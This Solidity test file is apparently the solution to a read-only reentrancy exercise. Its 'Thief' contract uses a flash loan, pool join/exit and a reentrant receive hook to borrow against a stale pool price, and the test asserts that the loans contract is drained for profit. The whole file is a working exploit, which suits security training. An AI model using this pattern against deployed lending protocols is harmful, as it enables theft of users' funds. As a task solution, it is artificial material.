// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.27;

import {Feed, FlashLender, Token} from "../read-only-reentrancy/src/Imports.sol";
import {DewLoans} from "../read-only-reentrancy/src/DewLoans.sol";
import {TwinPool} from "../read-only-reentrancy/src/TwinPool.sol";
import {IFlashBorrower} from "../../shared/IFlashBorrower.sol";

interface Vm {
    function prank(address) external;
    function deal(address, uint256) external;
}

contract Thief is IFlashBorrower {
    Token private immutable dew;
    TwinPool private immutable pool;
    DewLoans private immutable loans;
    uint256 private locked;

    constructor(Token dew_, TwinPool pool_, DewLoans loans_) {
        (dew, pool, loans) = (dew_, pool_, loans_);
        dew_.approve(address(pool_), type(uint256).max);
        pool_.approve(address(loans_), type(uint256).max);
    }

    function attack(FlashLender lender, uint256 amount, uint256 locked_) external {
        locked = locked_;
        lender.flashLoan(this, address(dew), amount, "");
        dew.transfer(msg.sender, dew.balanceOf(address(this)));
        (bool success,) = msg.sender.call{value: address(this).balance}("");
        require(success);
    }

    function onFlashLoan(address, address, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        uint256 shares = pool.join(amount);
        loans.lock(locked);
        pool.exit(shares - locked);
        dew.approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }

    receive() external payable {
        loans.borrow(dew.balanceOf(address(loans)));
    }
}

contract ReadOnlyReentrancyTest {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant ALICE = address(0xA11CE);
    address constant BOB = address(0xB0B);
    address constant CAROL = address(0xCA401);
    address constant ATTACKER = address(0xBAD);

    Token dew;
    TwinPool pool;
    DewLoans loans;
    FlashLender lender;

    function setUp() public {
        dew = new Token("Dew", "DEW");
        pool = new TwinPool{value: 1 ether}(dew);
        loans = new DewLoans(pool, new Feed(18, 1 ether, address(this)), address(this));
        lender = new FlashLender(5);
        dew.mint(address(lender), 60_000 ether);
        _join(ALICE, 1_299 ether, 1_300 ether, 2_800 ether);
        _join(BOB, 500 ether, 700 ether, 2_300 ether);
        _join(CAROL, 200 ether, 0, 0);
        vm.prank(CAROL);
        loans.lock(150 ether);
        vm.prank(CAROL);
        loans.borrow(100 ether);
    }

    function _join(address who, uint256 coins, uint256 dews, uint256 lent) private {
        vm.deal(who, coins);
        dew.mint(who, dews + lent);
        vm.prank(who);
        dew.approve(address(pool), 1e60);
        vm.prank(who);
        dew.approve(address(loans), 1e60);
        vm.prank(who);
        pool.approve(address(loans), 1e60);
        vm.prank(who);
        pool.join{value: coins}(dews);
        if (lent == 0) return;
        vm.prank(who);
        loans.lend(lent);
    }

    function test_attack_pays() public {
        Thief thief = new Thief(dew, pool, loans);
        vm.prank(ATTACKER);
        thief.attack(lender, 60_000 ether, 481.789 ether);
        // Ether and dew are worth the same; the shares that stay locked are lost.
        assert(dew.balanceOf(ATTACKER) + ATTACKER.balance > 4_488.2 ether);
        assert(dew.balanceOf(address(loans)) == 0);
    }
}
